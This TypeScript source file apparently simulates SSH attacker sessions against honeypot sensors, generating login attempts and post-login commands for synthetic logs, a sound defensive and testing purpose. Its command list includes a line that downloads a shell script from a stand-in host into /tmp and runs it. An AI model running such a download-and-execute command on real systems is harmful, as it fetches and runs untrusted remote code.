import type { Visit } from "./Actor.ts"
import { asLogged } from "./asLogged.ts"
import { pick, type Random } from "./random.ts"
import type { Attempt, Session } from "./Session.ts"
import { sshClient } from "./sshClients.ts"
import { second } from "./times.ts"
import type { Credential } from "./wordlists.ts"

const commandRuns: readonly [ReadonlyArray<string>, ...ReadonlyArray<ReadonlyArray<string>>] = [
  ["uname -s -v -n -r -m"],
  ["nproc", "free -m"],
  ["cat /proc/cpuinfo | grep name | wc -l"],
  ["cd /tmp; wget http://files.example/a.sh; sh a.sh", "rm -f a.sh"],
  ["w", "ls -la", "exit"],
]

/** The connections that a visit is made of, in the order of their start. */
export const sessionsOf = (visit: Visit, start: number, random: Random): ReadonlyArray<Session> => {
  const { credentials, target } = visit
  // Dionaea writes one line a connection, with the time of the connection for all in it.
  const perSession = target.sensor.kind === "dionaea" ? 1 : visit.perSession
  if (credentials.length === 0) return [session(visit, start, [], random)]
  const sessions: Array<Session> = []
  let time = start
  for (let index = 0; index < credentials.length; index += perSession) {
    const made = session(visit, time, credentials.slice(index, index + perSession), random)
    sessions.push(made)
    const pace = visit.pace * (0.6 + 0.8 * random.fraction())
    time =
      Math.max(time + 1.2 * second, made.attempts.at(-1)?.time ?? 0) + Math.round(pace * second)
  }
  return sessions
}

const session = (
  visit: Visit,
  from: number,
  credentials: ReadonlyArray<Credential>,
  random: Random,
): Session => {
  const { target, ip } = visit
  const start = clockOf(visit, from)
  const attempts: Array<Attempt> = []
  let time = start
  for (const credential of credentials) {
    const wait = Math.round((0.4 + 0.9 * random.fraction()) * second)
    time += attempts.length === 0 ? wait : wait + second
    const seen = asLogged(target, credential, random)
    const accepted = seen.principal === "root" && (seen.secret?.text.length ?? 0) % 5 === 0
    const at = target.sensor.kind === "dionaea" ? start : clockOf(visit, time)
    attempts.push({ time: at, ...seen, accepted })
  }
  const entered = attempts.at(-1)?.accepted ?? false
  const commands: Array<string> = []
  for (let runs = entered && random.chance(0.6) ? random.between(1, 4) : 0; runs > 0; runs--) {
    commands.push(...pick(commandRuns, random.below(commandRuns.length)))
  }
  const stay = commands.length * 2 * second + random.below(1 + random.below(60 * second))
  return {
    start,
    end: time + stay + Math.round(0.3 * second),
    target,
    ip,
    port: random.between(32_768, 60_999),
    id: random.hex(32),
    client: sshClient(visit.client),
    reached: credentials.length > 0 ? "kex" : pick(["connect", "version", "kex"], random.below(9)),
    attempts,
    commands,
    forwards: entered && commands.length === 0 ? random.below(30) : 0,
  }
}

/** The time as the sensor tells it: ssh-honeypot knows only seconds. */
const clockOf = ({ target }: Visit, time: number): number =>
  target.sensor.kind === "ssh-honeypot" ? time - (time % second) : time
